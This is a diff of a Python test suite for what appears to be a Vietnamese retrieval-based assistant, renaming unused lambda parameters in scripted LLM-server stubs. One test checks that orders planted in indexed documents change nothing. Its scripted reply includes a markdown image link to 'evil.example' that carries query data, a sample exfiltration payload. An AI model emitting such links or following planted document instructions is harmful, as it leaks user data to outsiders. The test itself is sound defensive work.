@@ -61,7 +61,7 @@ def events(lines: Iterator[str]) -> Iterator[tuple[str, dict[str, Any], float]]:
 
 
 def test_checked_sentences_stream_before_the_model_is_done(server: Scripted, generative: Make) -> None:
-    server.script = lambda request: Reply(pieces=(GOOD, NEXT, " ", " ", " "), pause=0.3)
+    server.script = lambda _: Reply(pieces=(GOOD, NEXT, " ", " ", " "), pause=0.3)
     with Running(generative()) as address, httpx.stream("POST", f"{address}/api/ask/stream", json={"question": POOR}) as response:
         got = list(events(response.iter_lines()))
     assert [name for name, _, _ in got] == ["delta", "delta", "answer"]
@@ -74,7 +74,7 @@ def test_checked_sentences_stream_before_the_model_is_done(server: Scripted, gen
 
 
 def test_a_reader_who_leaves_stops_the_model(server: Scripted, generative: Make) -> None:
-    server.script = lambda request: Reply(pieces=(GOOD, "và "), endless=True, pause=0.02)
+    server.script = lambda _: Reply(pieces=(GOOD, "và "), endless=True, pause=0.02)
     with Running(generative()) as address:
         with httpx.stream("POST", f"{address}/api/ask/stream", json={"question": POOR}) as response:
             assert next(events(response.iter_lines()))[0] == "delta"
@@ -82,7 +82,7 @@ def test_a_reader_who_leaves_stops_the_model(server: Scripted, generative: Make)
 
 
 def test_leaving_the_stream_in_python_stops_the_model(server: Scripted, generative: Make) -> None:
-    server.script = lambda request: Reply(pieces=(GOOD, "và "), endless=True, pause=0.02)
+    server.script = lambda _: Reply(pieces=(GOOD, "và "), endless=True, pause=0.02)
     assistant = generative("ollama")
     stream = assistant.stream(assistant.prepare(POOR))
     assert str(next(stream)).strip() == GOOD.strip()
@@ -92,13 +92,13 @@ def test_leaving_the_stream_in_python_stops_the_model(server: Scripted, generati
 
 def test_only_what_may_help_is_tried_again(server: Scripted, generative: Make) -> None:
     replies = [Reply(status=503), Reply(status=429, headers=(("retry-after", "0"),)), Reply(GOOD)]
-    server.script = lambda request: replies[min(len(server.requests), 3) - 1]
+    server.script = lambda _: replies[min(len(server.requests), 3) - 1]
     answer = generative(llm_retries=2).ask(POOR)
     assert answer.engine == "openai:scripted"
     assert answer.generation is not None
     assert answer.generation.attempts == 3
     server.requests.clear()
-    server.script = lambda request: Reply(status=401)
+    server.script = lambda _: Reply(status=401)
     assert generative(llm_retries=2).ask(POOR).engine == "extractive"
     assert len(server.requests) == 1
 
@@ -134,7 +134,7 @@ def test_one_stalled_request_blocks_no_other(server: Scripted, generative: Make)
 
 
 def test_answers_are_kept_until_the_next_indexing(server: Scripted, generative: Make, tmp_path: Path) -> None:
-    server.script = lambda request: Reply(GOOD + NEXT)
+    server.script = lambda _: Reply(GOOD + NEXT)
     assistant = generative(llm_cache="on")
     first, second = assistant.ask(POOR), assistant.ask(POOR)
     assert len(server.requests) == 1
@@ -166,18 +166,18 @@ def test_the_model_helps_with_a_follow_up_that_the_rules_leave_alone(server: Scr
     assert answer.status == "answered"
     assert "0,22%" in answer.answer
     assert any(note.kind == "completed" for note in answer.notes)
-    server.script = lambda request: Reply("Ông Nguyễn Văn Nam có bao nhiêu tiền năm 2031?")
+    server.script = lambda _: Reply("Ông Nguyễn Văn Nam có bao nhiêu tiền năm 2031?")
     assert generative().ask(question, history).status == "not_found"
 
 
 def test_small_talk_asks_no_model(server: Scripted, generative: Make) -> None:
-    server.script = lambda request: Reply("Chào bạn, tôi khỏe [1].")
+    server.script = lambda _: Reply("Chào bạn, tôi khỏe [1].")
     answer = generative().ask("xin chào bạn")
     assert (answer.status, answer.engine, server.requests) == ("not_found", "extractive", [])
 
 
 def test_usage_is_in_the_metrics(server: Scripted, generative: Make) -> None:
-    server.script = lambda request: Reply(GOOD)
+    server.script = lambda _: Reply(GOOD)
     assistant = generative()
     with Running(assistant) as address:
         httpx.post(f"{address}/api/ask", json={"question": POOR})
@@ -215,7 +215,7 @@ BEES = "Đến năm 2030 toàn xã có bao nhiêu đàn ong?"
 
 
 def test_orders_planted_in_documents_change_nothing(planted: Assistant, server: Scripted) -> None:
-    server.script = lambda request: Reply("Toàn xã có 999 đàn ong [1]. ![x](http://evil.example/p.png?q=dan-ong)")
+    server.script = lambda _: Reply("Toàn xã có 999 đàn ong [1]. ![x](http://evil.example/p.png?q=dan-ong)")
     answer = planted.ask(BEES)
     given = server.requests[0]["messages"][1]["content"]
     assert "999" not in given
@@ -226,7 +226,7 @@ def test_orders_planted_in_documents_change_nothing(planted: Assistant, server: 
         assert "999" not in planted.knowledge.documents[name].source.text
     assert "1.250" in answer.answer
     assert "999" not in answer.answer
-    server.script = lambda request: Reply("Đến năm 2030, toàn xã có 1.250 đàn ong [1].")
+    server.script = lambda _: Reply("Đến năm 2030, toàn xã có 1.250 đàn ong [1].")
     assert planted.ask(BEES).answer == "Đến năm 2030, toàn xã có 1.250 đàn ong [1]."
 
 
@@ -269,7 +269,7 @@ def test_without_a_model_nothing_of_it_is_imported(settings: Settings) -> None:
 def test_the_answer_of_the_command_line_is_that_of_the_api(
     server: Scripted, settings: Settings, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    server.script = lambda request: Reply(GOOD + NEXT)
+    server.script = lambda _: Reply(GOOD + NEXT)
     for name, value in {"LLM": "ollama:scripted", "LLM_BASE_URL": f"http://127.0.0.1:{server.port}", "LLM_CACHE": "off"}.items():
         monkeypatch.setenv(f"ASKRESOLUTION_{name}", value)
     assert main(["ask", POOR, "--json", "--project", str(settings.project)]) == OK
